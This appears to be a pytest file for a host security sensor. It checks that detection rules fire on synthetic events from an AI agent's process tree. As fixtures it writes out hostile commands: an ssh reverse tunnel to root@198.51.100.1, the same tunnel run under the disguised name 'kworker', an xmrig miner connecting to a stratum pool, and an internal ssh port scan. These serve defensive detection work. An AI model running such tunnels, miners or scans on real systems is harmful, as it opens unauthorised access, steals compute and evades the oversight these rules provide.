"""Each built-in rule fires on its positive case and stays silent on its negatives, through the
whole aggregator (classifiers, tunnel taint, engine) on constructed events."""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import dataclass, field

import pytest

from sensor import events as ev
from sensor.aggregator.aggregator import Aggregator
from sensor.aggregator.detector import DetectorConfig
from sensor.rules.loader import load_rules

SEC = 1_000_000_000
ROUTES = (("198.51.100.0/24", "egress"), ("203.0.113.0/24", "egress"), ("10.0.0.0/8", "lan"))


@dataclass
class Host:
    """Builds a consistent event stream: pids, start times and parents."""

    events: list[ev.Event] = field(default_factory=list)
    ts: int = SEC
    started: dict[int, int] = field(default_factory=dict)  # pid -> start time (its fork)

    def tick(self, seconds: float = 1) -> int:
        self.ts += int(seconds * SEC)
        return self.ts

    def fork(self, parent: int, child: int) -> None:
        self.started[child] = self.tick()
        self.events.append(ev.Fork(self.ts, parent, parent, child, parent, self.started[child]))

    def exec(self, pid: int, *argv: str, exe: str = "", ppid: int = 1) -> None:
        raw = [a.encode() for a in argv]
        self.events.append(ev.Exec(self.tick(), pid, pid, 0, ppid, 0, 0, 7, self.started[pid], raw[0][-15:],
                                   (exe or argv[0]).encode(), raw, len(raw), 0, 0, 0, pid))

    def spawn(self, parent: int, child: int, *argv: str, exe: str = "") -> None:
        self.fork(parent, child)
        self.exec(child, *argv, exe=exe, ppid=parent)

    def connect(self, pid: int, address: str, port: int) -> None:
        self.events.append(ev.Connect(self.tick(0.01), pid, pid, 3, 0, "inet", address, port))

    def gpu_compute(self, pid: int) -> None:
        ts = self.tick()
        for klass, handle, parent in ((0x41, 1, 1), (0x80, 2, 1), (0xA06C, 3, 2), (0xC86F, 4, 3), (0xCBC0, 5, 4)):
            self.events.append(ev.GpuIoctl(ts, pid, pid, ev.GpuReason.ALLOC, ev.GpuKind.CTL, 3, 255, 0xC030462B,
                                           0x2B, 48, 0, 0, 1, parent, handle, klass, 0, 0, 0, bytes(16), 0))


def alerts(events: Iterable[ev.Event]) -> list[str]:
    aggregator = Aggregator(rules=load_rules([]), config=DetectorConfig(static_routes=ROUTES))
    raised = []
    for event in events:
        raised += [a.rule_id for a in aggregator.handle(event).alerts]
    return raised


def agent_tree() -> Host:
    """An agent launcher (below init) with a shell: the tree the agent's tools run in."""
    host = Host()
    host.spawn(1, 100, "/usr/bin/python3", "agent.py")
    host.spawn(100, 101, "/bin/bash", "-c", "tools")
    return host


REVERSE = ("/usr/bin/ssh", "-fNR", "9000:localhost:22", "root@198.51.100.1")


def test_reverse_tunnel_opened() -> None:
    host = agent_tree()
    host.spawn(101, 102, *REVERSE)
    assert alerts(host.events) == ["reverse-tunnel-opened"]


@pytest.mark.parametrize("argv", [
    ("/usr/bin/ssh", "-L", "8080:db:5432", "root@198.51.100.1"),  # local forward
    ("/usr/bin/ssh", "root@198.51.100.1", "uptime"),  # plain ssh
    ("/usr/bin/ssh", "-x", "-oPermitLocalCommand=no", "-oClearAllForwardings=yes", "--", "h", "scp", "-t", "/tmp"),
    ("/usr/bin/ssh", "git@198.51.100.1", "git-upload-pack 'repo.git'"),
])
def test_non_reverse_ssh_is_not_a_reverse_tunnel(argv: tuple[str, ...]) -> None:
    host = agent_tree()
    host.spawn(101, 102, *argv)
    assert alerts(host.events) == []


def test_tunnel_to_a_nonstandard_port() -> None:
    host = agent_tree()
    host.spawn(101, 102, "/usr/bin/ssh", "-p", "2222", "-L", "8080:db:5432", "u@198.51.100.1")
    assert alerts(host.events) == ["tunnel-to-nonstandard-port"]


def test_renamed_ssh_is_judged_by_its_executable() -> None:
    host = agent_tree()
    host.spawn(101, 102, "kworker", "-fNR", "9000:localhost:22", "root@198.51.100.1", exe="/usr/bin/ssh")
    assert alerts(host.events) == ["reverse-tunnel-opened"]


def test_miner_pool_connection_and_known_binary() -> None:
    host = agent_tree()
    host.spawn(101, 102, "/tmp/xmrig", "-o", "stratum+tcp://203.0.113.9:3333", "-u", "wallet")
    host.connect(102, "203.0.113.9", 3333)
    assert alerts(host.events) == ["known-miner-binary", "miner-pool-connection", "miner-pool-connection"]


def test_ordinary_https_and_training_are_silent() -> None:
    host = agent_tree()
    host.spawn(101, 102, "/usr/bin/python3", "train.py", "--epochs", "3")
    host.connect(102, "203.0.113.9", 443)
    host.gpu_compute(102)
    assert alerts(host.events) == []


def test_reverse_tunnel_then_gpu_compute_in_the_same_lineage() -> None:
    host = agent_tree()
    host.spawn(101, 102, *REVERSE)
    host.spawn(101, 103, "/usr/bin/python3", "hash.py")
    host.gpu_compute(103)
    assert alerts(host.events) == ["reverse-tunnel-opened", "reverse-tunnel-then-gpu-compute"]


def test_training_compute_in_another_tree_is_silent() -> None:
    host = agent_tree()
    host.spawn(101, 102, *REVERSE)
    host.spawn(1, 200, "/usr/bin/python3", "train.py")  # another job, started by init (a scheduler)
    host.gpu_compute(200)
    assert alerts(host.events) == ["reverse-tunnel-opened"]


def test_compute_after_the_window_is_silent() -> None:
    host = agent_tree()
    host.spawn(101, 102, *REVERSE)
    host.spawn(101, 103, "/usr/bin/python3", "hash.py")
    host.tick(31 * 60)
    host.gpu_compute(103)
    assert alerts(host.events) == ["reverse-tunnel-opened"]


def test_gpu_compute_in_tunnel_scope_through_a_login() -> None:
    host = agent_tree()
    host.spawn(101, 102, *REVERSE)
    host.spawn(1, 300, "/usr/sbin/sshd", "-D")  # the host's sshd: a lineage boundary
    host.fork(102, 104)  # ssh -f's worker connects to the local sshd for the tunnel
    host.events.append(ev.TcpEstablished(host.tick(), 104, 104, "inet", "127.0.0.1", 40022, "127.0.0.1", 22))
    host.events.append(ev.Accept(host.tick(0.001), 300, 300, 5, 3, "inet", "127.0.0.1", 40022))
    host.spawn(300, 301, "/usr/sbin/sshd", "-R")  # the per-connection sshd
    host.spawn(301, 302, "/bin/bash", "-c", "python3 miner.py")
    host.gpu_compute(302)
    assert alerts(host.events) == ["reverse-tunnel-opened", "gpu-compute-in-tunnel-scope",
                                   "reverse-tunnel-then-gpu-compute"]


def test_reverse_tunnel_then_miner_egress() -> None:
    host = agent_tree()
    host.spawn(101, 102, *REVERSE)
    host.spawn(101, 103, "/usr/bin/python3", "worker.py")
    host.connect(103, "203.0.113.9", 4444)
    assert alerts(host.events) == ["reverse-tunnel-opened", "miner-pool-connection",
                                   "reverse-tunnel-then-miner-egress"]


def test_gpu_compute_then_miner_egress() -> None:
    host = agent_tree()
    host.spawn(101, 103, "/usr/bin/python3", "worker.py")
    host.gpu_compute(103)
    host.connect(103, "198.51.100.77", 14444)
    assert alerts(host.events) == ["miner-pool-connection", "gpu-compute-then-miner-egress"]


def test_internal_scan() -> None:
    host = agent_tree()
    host.spawn(101, 102, "/usr/bin/python3", "probe.py")
    for i in range(40):
        host.connect(102, f"10.0.{i // 250}.{i % 250 + 1}", 22)
    assert alerts(host.events) == ["internal-scan"]


def test_a_few_internal_connections_are_not_a_scan() -> None:
    host = agent_tree()
    host.spawn(101, 102, "/usr/bin/python3", "client.py")
    for i in range(10):
        host.connect(102, f"10.0.0.{i + 1}", 5432)
    assert alerts(host.events) == []
